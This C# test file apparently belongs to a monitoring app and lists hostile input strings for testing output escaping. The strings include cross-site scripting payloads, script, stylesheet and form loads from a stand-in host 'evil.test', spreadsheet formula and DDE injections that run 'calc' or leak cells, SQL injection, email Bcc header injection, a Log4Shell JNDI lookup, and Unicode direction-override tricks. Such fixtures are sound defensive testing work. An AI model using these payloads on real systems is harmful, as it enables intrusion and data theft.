namespace MongoliaDprk.Monitor.App.Tests.Hostile;

/// <summary>What an outlet may write to harm whoever reads it elsewhere; written for these tests.</summary>
internal static class HostileWords
{
    public static IReadOnlyList<string> All { get; } =
    [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "' onmouseover='alert(1)' x='",
        "</title></textarea></style></script><svg onload=alert(1)>",
        "<svg><script href=//evil.test/x.js></script></svg><math><mi xlink:href=javascript:alert(1)>m</mi></math>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe><base href=//evil.test/><meta http-equiv=refresh content='0;url=//evil.test'>",
        "<style>@import '//evil.test/x.css';</style><form action=//evil.test><input name=password>",
        "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;lt;i&amp;gt;",
        "[click](javascript:alert(1)) ![pixel](https://evil.test/p.png) <https://evil.test> www.evil.test",
        "`code` **bold** | cell | cell | ~~gone~~ # heading",
        "]]> --> <![CDATA[ <!-- <?xml version='1.0'?> <!DOCTYPE x>",
        "=HYPERLINK(\"https://evil.test/?\"&A1,\"click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\"=1+1\",=2+2;=3+3",
        "\uFF1D1+1 \uFF0B2 \uFF0D3 \uFF20x",
        "'); DROP TABLE \"Articles\";-- ' OR '1'='1",
        "100% _under_ \\ % [a-z] ESCAPE '\\' NEAR/2 \"AND\" OR NOT *",
        "one\r\nBcc: victim@evil.test\r\n\r\n<b>body</b>",
        "one\nBEGIN:VEVENT\nSUMMARY:planted\nEND:VEVENT\r\nATTACH:https://evil.test",
        "\u202Egpj.exe\u202C \u2066isolated\u2069 \u2067open \u200Fmark\u061C",
        "zero\u200Bwidth\u2060joined\uFEFF\u00ADsoft\u180E",
        "\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u009b2J \u0008\u0008 \u007f",
        "line\u2028separator\u2029paragraph\u0085next\u000bvertical\u000cform",
        "nul \0 and half \ud83d of a pair \udc00 and \ufffe \uffff",
        "\U000E0001\U000E0041tagged \U0010FFFF private \uE000",
        "{{constructor.constructor('alert(1)')()}} ${jndi:ldap://evil.test/x} {0} {1:x} %s %n @Html @{1+1}",
        "@channel <!channel> <@U1> <https://evil.test|good> &<>",
        "\\u0000 \\ud800 \" \\\" \\n } ] , \u0000",
        "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308 Z\u0353\u0324\u0332\u0348 \u1ABE\u20DD",
        "=?utf-8?Q?=0D=0ABcc:_victim@evil.test?= =?utf-8?B?PHNjcmlwdD4=?=",
    ];
}
